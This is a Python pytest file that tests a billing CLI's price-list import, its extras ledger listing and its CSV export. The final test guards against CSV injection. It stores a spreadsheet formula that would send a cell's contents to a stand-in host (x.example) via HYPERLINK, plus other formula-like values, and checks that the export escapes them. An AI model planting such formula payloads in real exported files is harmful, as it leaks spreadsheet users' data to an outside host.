"""`techconnect prices ...` and `techconnect extras ...` (rule C3): the price list's import and list, the
ledger's list and its CSV export, in process (typer's CliRunner) on a SQLite file; no Temporal involved
(`client_for` fails the test if called). The extras are stored by the real activity, so they carry the
prices it found. Dates are fixed inside the data."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tempfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from activities.db import DatabaseActivities
from cli.app import app
from domain.activities import ExtraRecord
from domain.money import Money
from domain.program import BillableExtra
from domain.step_inputs import EXTRA_RULES, BillableExtraKind
from storage import repositories as repo
from storage.ledger import LEDGER_COLUMNS, ledger_csv
from storage.price_import import import_price_list_csv
from testing.databases import migrated_sessions
from tests.offline_cli import offline_cli_environment

PRICES = (
    "kind,basis,unit_price,currency,effective_from,description\n"
    "on_site_dispatch,unit,1450.00,EUR,2026-01-01,One engineer on site for a day\n"
    "optional_coverage,month,2400.00,EUR,2026-01-01,TL coverage outside the programme\n"
    "extra_call,unit,333.33,EUR,2026-01-01,A second follow-up call\n"
)


class Cli:
    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.url = f"sqlite+aiosqlite:///{tmp / 'techconnect.db'}"
        self.runner = CliRunner()

    def __call__(self, *args: str) -> Result:
        result = self.runner.invoke(app, list(args))
        assert result.exception is None or isinstance(result.exception, SystemExit), (result.output, result.exception)
        assert "Traceback" not in result.output
        return result

    def write(self, name: str, text: str) -> Path:
        path = self.tmp / name
        path.write_text(text, encoding="utf-8")
        return path


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cli:
    offline_cli_environment(tmp_path, monkeypatch, "the command connected to Temporal")
    return Cli(tmp_path)


def _extra(kind: BillableExtraKind, at: datetime, quantity: str = "1", amount: str | None = None,
           reason: str | None = None) -> BillableExtra:
    return BillableExtra(kind=kind, rule=EXTRA_RULES[kind], description=f"{kind.value.replace('_', ' ')}, {at:%d %b}",
                         agreement_ref="AGR-7", quantity=Decimal(quantity), recorded_at=at, recorded_by="ops-olga",
                         amount=Money(amount=Decimal(amount)) if amount else None, override_reason=reason)


LEDGER = [  # (customer, period, extra)
    ("acme", 1, _extra(BillableExtraKind.on_site_dispatch, datetime(2026, 3, 2, 9, 30, tzinfo=UTC), "2")),
    ("acme", 1, _extra(BillableExtraKind.optional_coverage, datetime(2026, 3, 10, 14, 0, tzinfo=UTC), "1.5",
                       "3000.00", "rate agreed for Q2 in AGR-7")),
    ("acme", 2, _extra(BillableExtraKind.customisation, datetime(2026, 3, 31, 23, 59, 59, tzinfo=UTC))),
    ("globex", 1, _extra(BillableExtraKind.extra_call, datetime(2026, 3, 15, 8, 0, tzinfo=UTC))),
    ("acme", 1, _extra(BillableExtraKind.extra_call, datetime(2026, 4, 1, 0, 0, tzinfo=UTC))),  # after --to
]


def seed(run: Cli) -> None:
    async def go() -> None:
        async with migrated_sessions(run.url) as sessions:
            async with sessions() as s, s.begin():
                for customer in ("acme", "globex"):
                    await repo.upsert_customer(s, customer, customer.title(), f"SMP-{customer}",
                                               now=datetime(2026, 1, 1, tzinfo=UTC))
            await import_price_list_csv(run.write("prices.csv", PRICES), sessions, by="ops-olga")
            acts = DatabaseActivities(sessions)
            for n, (customer, period, extra) in enumerate(LEDGER, 1):
                await acts.record_billable_extra(ExtraRecord(customer_id=customer, period=period, extra=extra,
                                                             idempotency_key=f"program-{customer}:extra:{n}"))

    asyncio.run(go())


# ---- prices -----------------------------------------------------------------------------------------


@pytest.mark.rule("C3")
def test_prices_import_refuses_a_bad_file_naming_each_line_and_imports_nothing(run: Cli) -> None:
    bad = run.write("bad.csv", PRICES + "customisation,unit,1200.00,EUR,2026-01-01,Custom work per day\n"
                                        "other,hour,50.00,EUR,2026-01-01,Other\n"
                                        "extra_report,unit,900.00,EUR,1 Jan 2026,Extra report\n")
    refused = run("prices", "import", str(bad), "--json")
    assert refused.exit_code == 2, refused.output
    assert "nothing was imported" in refused.stderr
    assert "line 6, field basis: 'hour' is not a basis" in refused.stderr
    assert "line 7, field effective_from: '1 Jan 2026' is not a date (YYYY-MM-DD)" in refused.stderr
    assert refused.stdout == ""
    listed = run("prices", "list", "--json")
    assert listed.exit_code == 0 and json.loads(listed.stdout) == []

    good = run("prices", "import", str(run.write("good.csv", PRICES)), "--by", "ops-olga", "--json")
    assert good.exit_code == 0, good.output
    assert json.loads(good.stdout) | {"path": None} == {"path": None, "inserted": 3, "replaced": 0, "unchanged": 0,
                                                        "total": 3}
    prices = json.loads(run("prices", "list", "--json").stdout)
    assert [(p["kind"], p["basis"], p["unit_price"], p["currency"], p["effective_from"], p["imported_by"])
            for p in prices] == [("extra_call", "unit", "333.33", "EUR", "2026-01-01", "ops-olga"),
                                 ("on_site_dispatch", "unit", "1450.00", "EUR", "2026-01-01", "ops-olga"),
                                 ("optional_coverage", "month", "2400.00", "EUR", "2026-01-01", "ops-olga")]
    missing = run("prices", "import", str(run.tmp / "nowhere.csv"))
    assert missing.exit_code == 2 and "cannot read" in missing.stderr


# ---- the ledger ---------------------------------------------------------------------------------------


def test_extras_export_writes_the_ledger_of_the_days_as_csv(run: Cli) -> None:
    seed(run)
    result = run("extras", "export", "--from", "2026-03-01", "--to", "2026-03-31")
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert tuple(table[0]) == LEDGER_COLUMNS == (
        "id", "customer_id", "period", "recorded_at", "kind", "rule", "agreement_ref", "description", "quantity",
        "price_basis", "unit_price", "amount", "currency", "override_reason", "recorded_by")
    rows = [dict(zip(table[0], r, strict=True)) for r in table[1:]]
    # Oldest first, every customer; 1 April is after --to (the last day counts whole, in UTC).
    assert [(r["customer_id"], r["recorded_at"], r["kind"]) for r in rows] == [
        ("acme", "2026-03-02T09:30:00+00:00", "on_site_dispatch"),
        ("acme", "2026-03-10T14:00:00+00:00", "optional_coverage"),
        ("globex", "2026-03-15T08:00:00+00:00", "extra_call"),
        ("acme", "2026-03-31T23:59:59+00:00", "customisation")]
    picked = ("period", "rule", "quantity", "price_basis", "unit_price", "amount", "currency", "override_reason")
    assert [tuple(r[c] for c in picked) for r in rows] == [
        ("1", "A4", "2", "unit", "1450.00", "2900.00", "EUR", ""),
        ("1", "C6", "1.50", "month", "2400.00", "3000.00", "EUR", "rate agreed for Q2 in AGR-7"),
        ("1", "C10", "1", "unit", "333.33", "333.33", "EUR", ""),
        ("2", "C13", "1", "", "", "unpriced", "", "")]
    assert {r["agreement_ref"] for r in rows} == {"AGR-7"} and {r["recorded_by"] for r in rows} == {"ops-olga"}
    assert all(r["id"].isdigit() for r in rows)

    one_day = run("extras", "export", "--from", "2026-04-01", "--to", "2026-04-01", "--format", "csv")
    assert len(one_day.stdout.splitlines()) == 2
    for args, message in [(("--from", "2026-04-02", "--to", "2026-04-01"), "--to 2026-04-01 is before --from"),
                          (("--from", "20260401", "--to", "2026-04-01"), "--from '20260401' is not a date"),
                          (("--from", "2026-04-01", "--to", "2026-04-01", "--format", "xlsx"), "exported as csv")]:
        refused = run("extras", "export", *args)
        assert refused.exit_code == 2 and message in refused.stderr, refused.output


def test_extras_list_json_gives_one_customers_ledger_lines(run: Cli) -> None:
    seed(run)
    result = run("extras", "list", "acme", "--period", "1", "--json")
    assert result.exit_code == 0, result.output
    lines = json.loads(result.stdout)
    assert [(x["kind"], x["quantity"], x["unit_price"], x["amount"], x["priced"]) for x in lines] == [
        ("on_site_dispatch", "2", "1450.00", "2900.00", True),
        ("optional_coverage", "1.50", "2400.00", "3000.00", True),
        ("extra_call", "1", "333.33", "333.33", True)]
    assert set(lines[0]) == {*LEDGER_COLUMNS, "priced"}
    unpriced = json.loads(run("extras", "list", "acme", "--period", "2", "--json").stdout)
    assert [(x["kind"], x["amount"], x["priced"]) for x in unpriced] == [("customisation", None, False)]
    # Without --json: the table and each period's totals, the unpriced extra said as such.
    human = run("extras", "list", "acme")
    assert "acme period 1: 3 extra(s), 6233.33 EUR" in human.stdout
    assert "acme period 2: 1 extra(s), nothing priced; 1 unpriced" in human.stdout
    refused = run("extras", "list", "ACME Corp")
    assert refused.exit_code == 2 and "is not a customer ID" in refused.stderr


def test_a_text_cell_that_a_spreadsheet_would_run_is_exported_as_text() -> None:
    # A customer types a customisation's agreement reference (C13), ops type descriptions and reasons:
    # finance opens the file in a spreadsheet, where "=..." would be a formula (CSV injection).
    extra = _extra(BillableExtraKind.customisation, datetime(2026, 3, 2, tzinfo=UTC), amount="10.00",
                   reason="@SUM(A1:A9)").model_copy(update={
                       "agreement_ref": '=HYPERLINK("http://x.example/?"&A1,"AGR")', "description": "-2+3"})

    async def go(url: str) -> str:
        async with migrated_sessions(url) as sessions:
            async with sessions() as s, s.begin():
                await repo.upsert_customer(s, "acme", "Acme", "SMP-acme", now=datetime(2026, 1, 1, tzinfo=UTC))
            await DatabaseActivities(sessions).record_billable_extra(
                ExtraRecord(customer_id="acme", period=1, extra=extra, idempotency_key="x:1"))
            async with sessions() as s:
                return ledger_csv(await repo.list_billable_extras(s, "acme"))

    with tempfile.TemporaryDirectory() as tmp:
        text = asyncio.run(go(f"sqlite+aiosqlite:///{Path(tmp) / 'ledger.db'}"))
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["agreement_ref"] == '\'=HYPERLINK("http://x.example/?"&A1,"AGR")'
    assert row["description"] == "'-2+3" and row["override_reason"] == "'@SUM(A1:A9)"
    assert row["amount"] == "10.00" and row["customer_id"] == "acme"  # numbers and plain text unchanged
